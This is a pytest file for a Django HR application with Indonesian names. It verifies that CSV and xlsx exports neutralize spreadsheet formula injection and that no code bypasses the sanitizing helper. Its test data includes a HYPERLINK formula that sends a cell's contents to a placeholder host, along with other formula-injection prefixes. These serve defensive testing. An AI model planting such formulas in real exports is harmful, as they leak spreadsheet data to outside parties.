"""Formula injection (issue 16, item 5): every CSV/xlsx the product writes goes through
`inti.ekspor`, which disarms cells a spreadsheet would run as a formula. The per-export
tests live beside each app's export tests (JP compliance CSV, kenaikan pangkat xlsx, vacancy
xlsx); the admin's import-export download is checked here."""

from __future__ import annotations

import re
from io import BytesIO
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from inti.ekspor import sel_aman
from tests.factories import PegawaiFactory, UnitKerjaFactory, admin_bkd

RUMUS = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
AKAR = Path(__file__).resolve().parent.parent


@pytest.mark.parametrize(
    "masuk, keluar",
    [
        (RUMUS, "'" + RUMUS),
        ("+62 812", "'+62 812"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Siti = Rahmawati", "Siti = Rahmawati"),  # not at the start: harmless
        ("", ""),
        (-5, -5),  # numbers stay numbers
        (None, None),
    ],
)
def test_sel_dinetralkan(masuk, keluar):
    assert sel_aman(masuk) == keluar


def test_tidak_ada_ekspor_yang_melewati_helper():
    """A new CSV/xlsx writer in product code must use inti/ekspor.py."""
    pola = re.compile(r"csv\.writer\(|\.export\(\"xlsx\"\)|text/csv|Workbook\(")
    izin = {"inti/ekspor.py", "inti/bulk.py"}
    pelanggar = []
    for berkas in AKAR.rglob("*.py"):
        rel = berkas.relative_to(AKAR).as_posix()
        if rel.startswith((".venv/", "tests/", "bench/")) or "/migrations/" in rel or rel in izin:
            continue
        if pola.search(berkas.read_text(encoding="utf-8")):
            pelanggar.append(rel)
    assert pelanggar == []


@pytest.mark.django_db
def test_admin_export_disarms_formulas(client):
    PegawaiFactory(nama=RUMUS, unit_kerja=UnitKerjaFactory(kode="DISKES"))
    client.force_login(admin_bkd())
    url = reverse("admin:pegawai_pegawai_export")
    halaman = client.get(url).content.decode()
    pilihan = re.findall(r'<option value="(\d+)"[^>]*>([^<]+)</option>', halaman)
    indeks = next(v for v, label in pilihan if label.strip().lower() == "xlsx")
    kolom = {f"pegawairesource_{k}": "on" for k in ("nip", "nama", "unit_kerja")}
    resp = client.post(url, {"format": indeks, "resource": "0", **kolom})
    lembar = load_workbook(BytesIO(resp.content)).active
    sel = [c for row in lembar.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
    assert sel, "the name was exported"
    assert all(c.data_type == "s" and not str(c.value).startswith("=") for c in sel)
